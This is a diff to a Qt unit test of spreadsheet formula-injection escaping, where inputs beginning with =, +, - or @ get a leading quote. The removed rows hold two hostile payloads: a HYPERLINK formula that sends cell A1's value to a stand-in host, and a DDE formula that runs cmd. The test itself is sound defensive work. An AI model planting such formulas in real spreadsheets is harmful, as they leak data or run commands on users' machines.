@@ -158,10 +158,6 @@ private slots:
         QTest::addColumn<QString>("text");
         QTest::addColumn<QString>("cell");
         QTest::newRow("sum") << u"=1+1"_qs << u"'=1+1"_qs;
-        QTest::newRow("link that sends a cell away")
-            << u"=HYPERLINK(\"http://x/?leak=\"&A1,\"click\")"_qs
-            << u"'=HYPERLINK(\"http://x/?leak=\"&A1,\"click\")"_qs;
-        QTest::newRow("DDE") << u"=cmd|' /C calc'!A0"_qs << u"'=cmd|' /C calc'!A0"_qs;
         QTest::newRow("plus") << u"+1"_qs << u"'+1"_qs;
         QTest::newRow("minus") << u"-2+3"_qs << u"'-2+3"_qs;
         QTest::newRow("at") << u"@SUM(A1)"_qs << u"'@SUM(A1)"_qs;
